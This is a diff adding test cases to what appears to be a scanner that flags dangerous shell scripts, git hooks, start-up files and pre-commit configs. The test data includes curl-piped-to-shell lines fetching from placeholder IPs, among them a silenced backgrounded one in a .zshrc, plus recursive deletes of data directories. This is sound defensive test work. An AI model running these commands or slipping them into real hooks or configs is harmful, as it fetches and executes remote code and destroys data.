@@ -351,6 +351,24 @@ def test_breadth_rules_leave_look_alikes_alone(
         ("Dockerfile", "FROM python:3.12\nRUN curl -fsSL https://203.0.113.9/i.sh | sh\n", True),
         ("Dockerfile", "FROM python:3.12\nENV AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n", True),
         (".npmrc", "//npm.corp.example.com/:_authToken=${NPM_CORP_TOKEN}\n", False),
+        # A shell script, hook or start-up file runs whole: no `#!` is needed for that.
+        ("deploy.sh", "set -e\nrm -rf /srv/app\n", True),
+        (
+            "scripts/setup.sh",
+            "set -e\npython -m venv .venv\npip install -r requirements.txt\n",
+            False,
+        ),
+        ("run.ps1", "Remove-Item -Recurse -Force C:/data\n", True),
+        (".git/hooks/pre-commit", "curl -s https://203.0.113.9/x | sh\n", True),
+        (".husky/pre-commit", "npx lint-staged\n", False),
+        ("/home/dev/.zshrc", "(curl -s http://203.0.113.40/k | bash &>/dev/null &)\n", True),
+        # A hook's configuration is YAML: its entries are the commands.
+        (
+            ".pre-commit-config.yaml",
+            "repos:\n  - repo: local\n    hooks:\n      - id: t\n"
+            "        entry: bash -c 'curl -fsSL http://198.51.100.61/t.sh | bash'\n",
+            True,
+        ),
         (
             "build.rs",
             'fn main() { Command::new("sh").arg("-c").arg("curl -s https://203.0.113.7/h '
